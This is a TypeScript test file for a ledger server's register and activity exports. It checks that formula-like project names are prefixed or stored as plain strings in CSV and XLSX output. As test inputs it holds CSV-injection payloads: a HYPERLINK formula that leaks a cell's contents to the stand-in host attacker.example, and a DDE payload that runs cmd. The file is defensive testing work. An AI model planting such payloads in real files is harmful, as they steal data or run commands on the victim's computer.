import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { capitalChange, fdiCertificate } from '../support/certificates';
import { bearer, client, startLedgerServer, type LedgerServer } from '../support/ledger-server';

const HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

/** Officer-entered text must never run as a formula in the analyst's spreadsheet (OWASP CSV injection). */
describe('exports of officer-entered text that looks like a formula', () => {
  let server: LedgerServer;
  let position: string;
  const analyst = bearer('analyst');
  beforeAll(async () => {
    server = await startLedgerServer();
    const officer = client(server.baseUrl, bearer('officer', 'BQL-HN'));
    const names = [HYPERLINK, DDE, '+1+2', '-3+4', '\tcmd', '\rcmd', 'Nhà máy = bình thường'];
    for (const [i, projectName] of names.entries()) expect((await officer.post('/api/v1/projects', fdiCertificate(`21010000${i + 10}`, { projectName }))).status).toBe(201);
    // A decrease in 2017 makes the 2017 net change negative: a number, not a formula.
    const decreased = await officer.post('/api/v1/projects/2101000010/capital-decreases', capitalChange('11750000000', '500000.00', '2017-05-01'));
    expect(decreased.status).toBe(201);
    position = decreased.body.position;
  });
  afterAll(() => server.close());

  const download = async (path: string) => {
    const response = await fetch(`${server.baseUrl}${path}&minPosition=${position}`, { headers: analyst });
    expect(response.status).toBe(200);
    return Buffer.from(await response.arrayBuffer());
  };

  it('given project names starting with = @ + - tab or CR → the register CSV prefixes them with a single quote; other text is untouched', async () => {
    const rows: Record<string, string>[] = parse(await download('/api/v1/projects?format=csv&sort=projectCode'), { bom: true, columns: true });
    expect(rows.map((r) => r.projectName)).toEqual([`'${HYPERLINK}`, `'${DDE}`, "'+1+2", "'-3+4", "'\tcmd", "'\rcmd", 'Nhà máy = bình thường']);
    expect(rows[0]['registeredCapital.usd']).toBe('9500000.00');
  });

  it('given a negative net change → the activity CSV keeps -500000.00 as a number', async () => {
    const rows: Record<string, string>[] = parse(await download('/api/v1/reports/activity?from=2017-01-01&to=2017-12-31&format=csv'), { bom: true, columns: true });
    expect(rows.find((r) => r.origin === 'FDI')?.['current.netChange']).toBe('-500000.00');
  });

  it('given the same names → the register XLSX holds them as plain strings, never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download('/api/v1/projects?format=xlsx&sort=projectCode')) as never);
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const hyperlink = cells.find((c) => c.value === HYPERLINK);
    expect(hyperlink?.type).toBe(ExcelJS.ValueType.String);
    expect(cells.find((c) => c.value === DDE)?.type).toBe(ExcelJS.ValueType.String);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
  });
});
